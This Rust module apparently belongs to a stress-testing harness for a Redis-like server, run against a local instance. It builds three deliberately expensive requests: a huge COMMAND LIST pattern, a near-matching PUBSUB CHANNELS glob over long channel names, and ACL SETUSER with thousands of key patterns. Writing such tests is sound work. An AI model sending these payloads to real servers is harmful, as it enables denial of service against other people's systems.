//! Commands that read no key, and whose words make them long: patterns, rules of users.

use super::{Attack, PLAIN, Stage, repeat};
use crate::wire;
use dial::{Address, Conn};
use std::io;

/// Pieces of the pattern of COMMAND LIST: a server that reads it for every name is busy for long.
const PIECES: usize = 13_000;
/// Channels with long names, and how long they are; the pattern is half as long.
const CHANNELS: usize = 60;
const NAME: usize = 6000;
/// Patterns for keys of one user.
const RULES: u64 = 9_900;

pub const ATTACKS: &[Attack] = &[
    Attack {
        name: "command-list",
        what: "COMMAND LIST with a pattern of 65 KB",
        strike: |_, _| {
            repeat(request(&[b"COMMAND", b"LIST", b"FILTERBY", b"PATTERN", &b"*[a-z".repeat(PIECES)]))
        },
        ..PLAIN
    },
    Attack {
        name: "pubsub-channels",
        what: "PUBSUB CHANNELS with a pattern that nearly matches 60 long names",
        setup: |stage| Ok(Box::new(subscribed(stage)?)),
        strike: |_, _| {
            let pattern = [&b"*"[..], &[b'a'; NAME / 2], b"b"].concat();
            repeat(request(&[b"PUBSUB", b"CHANNELS", &pattern]))
        },
        ..PLAIN
    },
    Attack {
        name: "acl-setuser",
        what: "ACL SETUSER with {} patterns",
        size: RULES,
        strike: |stage, k| {
            let (name, rules) = (format!("user{k}"), stage.scaled(RULES));
            let patterns: Vec<String> = (0..rules).map(|i| format!("~key:{i}")).collect();
            let mut words: Vec<&[u8]> = vec![b"ACL", b"SETUSER", name.as_bytes(), b"reset"];
            words.extend(patterns.iter().map(String::as_bytes));
            repeat(request(&words))
        },
        ..PLAIN
    },
];

fn request(words: &[&[u8]]) -> Vec<u8> {
    let mut out = Vec::new();
    wire::command(&mut out, words);
    out
}

/// A connection that is subscribed to the channels.
fn subscribed(stage: &Stage) -> io::Result<Conn> {
    let mut conn = Conn::open(&Address::new(format!("127.0.0.1:{}", stage.server.port)))?;
    for i in 0..CHANNELS {
        let name = [&[b'a'; NAME][..], i.to_string().as_bytes()].concat();
        conn.call::<&[u8]>(&[b"SUBSCRIBE", &name])?;
    }
    Ok(conn)
}
